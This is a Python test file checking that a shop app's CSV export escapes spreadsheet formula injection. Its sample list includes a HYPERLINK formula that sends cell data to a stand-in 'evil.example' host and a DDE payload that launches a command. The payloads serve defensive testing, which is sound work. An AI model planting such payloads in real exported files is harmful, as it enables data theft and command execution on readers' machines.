"""What people type does not become a formula in the spreadsheet of those who read it."""

import csv
import io
import re

import pytest

from shopchat.core.csv_cells import BOM, lines, safe

FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tplain",
    "\rplain",
    "\nplain",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\x00=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    '"=1+1',
    '" =1+1',
    "x,=1+1",
    "x;=1+1",
    "x; =1+1",
    "x\t=1+1",
    "x|=1+1",
    'x;"=1+1"',
    'x",=1+1',
    "x\n=1+1",
    "x\r\n@SUM(A1)",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "=cmd|' /C calc'!A0",
    "+380441234567",
]
HARMLESS = [
    "",
    "Olena",
    "a-b",
    "1+1=2",
    "anna@example.test",
    "C-4821",
    "Boots, red",
    "a; b",
    "Is it 20 % off?",
    "O'Neil",
    "38–39",
    "https://shop.example/a?b=c",
]
BEGINS_A_FORMULA = re.compile(r"^[\s\x00-\x20\ufeff\u200b]*[=+\-@＝＋－＠]|^[\t\r\n]")


def cells(line, separator):
    """What a spreadsheet reads out of the line when it was told this separator."""
    quoted = csv.reader(io.StringIO(line, newline=""), delimiter=separator)
    unquoted = csv.reader(re.split(r"[\r\n]+", line), delimiter=separator, quoting=csv.QUOTE_NONE)
    for row in [*quoted, *unquoted]:
        for cell in row:
            yield from (cell, cell.strip('"'))


@pytest.mark.parametrize("text", FORMULAS)
def test_no_reading_of_the_file_finds_a_formula(text):
    bare = ",".join(["1", '"' + text.replace('"', '""') + '"'])
    assert any(BEGINS_A_FORMULA.search(cell) for separator in ",;\t|" for cell in cells(bare, separator))

    for ours in ",;":
        (_bom, line) = lines([["1", text]], separator=ours)
        for theirs in ",;\t|":
            assert not [cell for cell in cells(line, theirs) if BEGINS_A_FORMULA.search(cell)], (ours, theirs)


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_stays_as_it_is(text):
    assert safe(text) == text


def test_the_apostrophe_stands_before_the_formula_and_nothing_is_lost():
    assert safe("=1+1") == "'=1+1"
    assert safe("x;=1") == "x;'=1"
    assert safe("x;'=1'") == "x;'''=1'"  # some take the single quote for a quote
    assert safe("+380441234567") == "'+380441234567"


@pytest.mark.parametrize("number", [-5, 0, 12, -0.5])
def test_our_own_numbers_stay_numbers(number):
    assert safe(number) is number


def test_nothing_is_an_empty_cell():
    assert list(lines([["a", None]])) == [BOM, "a,\r\n"]


def test_the_file_says_that_it_is_utf_8_and_is_read_back_as_written():
    rows = [["Имя", 'сказал "да"'], ["Олена", "a, b; c\nd"]]

    text = "".join(lines(rows, separator=";"))

    assert text.encode().startswith(b"\xef\xbb\xbf")
    assert list(csv.reader(io.StringIO(text.removeprefix(BOM), newline=""), delimiter=";")) == rows


def test_lines_are_made_one_by_one():
    def rows():
        yield ["first"]
        raise AssertionError("the second row was asked for too early")

    made = lines(rows())

    assert [next(made), next(made)] == [BOM, "first\r\n"]
